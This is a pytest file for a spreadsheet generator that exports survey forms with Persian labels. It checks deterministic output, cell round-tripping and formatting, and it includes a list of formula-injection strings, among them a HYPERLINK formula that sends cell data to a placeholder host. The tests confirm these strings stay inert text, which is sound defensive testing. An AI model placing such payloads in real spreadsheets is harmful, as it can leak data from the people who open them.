"""The workbook people open in Excel or LibreOffice."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from forms.workbook import Sheet, Workbook

ATTACKS = ["=1+1", '=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-1", "@SUM(A1)", "http://example.org/", "{=1}", "\t=1"]


def small(label: str = "قوچ و میش") -> Workbook:
    return Workbook(
        survey=Sheet(("type", "name", "label::فارسی (fa)", "hint::فارسی (fa)"), (("text", "a", label, ""),)),
        choices=Sheet(("list_name", "name", "label::فارسی (fa)"), ()),
        settings=Sheet(("form_title", "form_id", "version"), (("T", "t", "2026112201"),)),
    )


def test_the_same_workbook_is_always_the_same_bytes() -> None:
    assert small().to_xlsx() == small().to_xlsx()
    with ZipFile(BytesIO(small().to_xlsx())) as archive:
        assert b">2000-01-01T00:00:00Z<" in archive.read("docProps/core.xml")
        assert {entry.date_time[0] for entry in archive.infolist()} == {1980}


def test_every_cell_comes_back_as_it_was() -> None:
    book = load_workbook(BytesIO(small().to_xlsx()))
    assert book.sheetnames == ["survey", "choices", "settings"]
    assert [[cell.value for cell in row] for row in book["survey"].rows] == [
        ["type", "name", "label::فارسی (fa)", "hint::فارسی (fa)"],
        ["text", "a", "قوچ و میش", None],
    ]
    assert book["settings"]["C2"].value == "2026112201"


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_becomes_a_formula_or_a_link(text: str) -> None:
    data = small(text).to_xlsx()
    cell = load_workbook(BytesIO(data))["survey"]["C2"]
    assert cell.value == text
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    with ZipFile(BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_header_stays_in_view_in_bold_and_the_columns_are_wide_enough_to_read() -> None:
    sheet = load_workbook(BytesIO(small().to_xlsx()))["survey"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["C2"].font.b
    assert sheet.column_dimensions["C"].width > 40
    assert not sheet.sheet_view.rightToLeft


def test_a_column_without_any_value_is_left_out() -> None:
    rows = [{"type": "text", "name": "a", "hint": ""}, {"type": "note", "name": "b", "label": "B"}]
    assert Sheet.of(("type", "name", "label", "hint"), rows) == Sheet(
        ("type", "name", "label"), (("text", "a", ""), ("note", "b", "B"))
    )
